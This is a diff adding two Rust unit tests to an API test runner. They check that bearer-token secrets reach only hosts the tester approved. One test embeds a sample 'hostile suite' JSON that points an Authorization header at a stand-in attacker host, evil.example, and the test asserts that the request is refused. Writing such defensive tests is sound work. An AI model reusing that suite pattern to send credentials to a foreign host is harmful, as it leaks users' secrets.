@@ -398,3 +398,58 @@ fn an_initial_script_holding_a_secret_is_kept_only_when_secrets_are() {
         "var t = 'Bearer sekret-123';"
     );
 }
+
+#[test]
+fn secrets_go_only_to_hosts_the_tester_approved() {
+    let mut s = loaded();
+    s.set_in_page_origins(vec!["https://scim.demo.invalid".into()]);
+    s.set_value("base", "http://127.0.0.1:9/scim".into());
+    s.set_value("auth", "Bearer sekret-123".into());
+    s.set_value("randomId", "x".into());
+    let hosts = s.hosts();
+    assert_eq!(hosts.rows.len(), 1);
+    let row = &hosts.rows[0];
+    assert_eq!(row.origin, "http://127.0.0.1:9");
+    assert_eq!(row.requests, 3);
+    assert_eq!(row.carries, ["auth"]);
+    assert_eq!(row.approval, Approval::TypedByYou);
+    let plan = s.start_run(0.0, 1).expect("runs");
+    assert_eq!(
+        plan.options.host_policy,
+        suite_engine::HostPolicy::only(["https://scim.demo.invalid", "http://127.0.0.1:9"])
+    );
+}
+
+#[test]
+fn a_base_url_from_the_suite_file_is_not_an_approval() {
+    // A hostile suite names its own host in the environment it carries.
+    let suite = r#"{"steps": [{"step_type": "request", "url": "{{base}}/x",
+        "headers": {"Authorization": ["{{auth}}"]}}],
+      "environments": [{"name": "e", "initial_variables": {"base": "http://evil.example:9999"}}]}"#;
+    let mut s = Session::new(false);
+    assert!(s.load_suite("hostile.json", suite));
+    s.set_value("auth", "Bearer sekret-123".into());
+    let hosts = s.hosts();
+    assert_eq!(hosts.rows[0].origin, "http://evil.example:9999");
+    assert_eq!(hosts.rows[0].approval, Approval::NotApproved);
+    assert_eq!(
+        hosts.unapproved_secret_hosts(),
+        ["http://evil.example:9999"]
+    );
+    let plan = s
+        .start_run(0.0, 1)
+        .expect("runs: the request is refused, not the run");
+    assert!(!plan
+        .options
+        .host_policy
+        .approves("http://evil.example:9999/x"));
+    s.end_run();
+    // Ticked by the tester, it may receive secrets; unticked, no more.
+    s.approve_origin("http://evil.example:9999", true);
+    assert_eq!(s.hosts().rows[0].approval, Approval::Approved);
+    s.approve_origin("http://evil.example:9999", false);
+    assert_eq!(s.hosts().rows[0].approval, Approval::NotApproved);
+    // Typed by the tester, it is their choice.
+    s.set_value("base", "http://evil.example:9999".into());
+    assert_eq!(s.hosts().rows[0].approval, Approval::TypedByYou);
+}
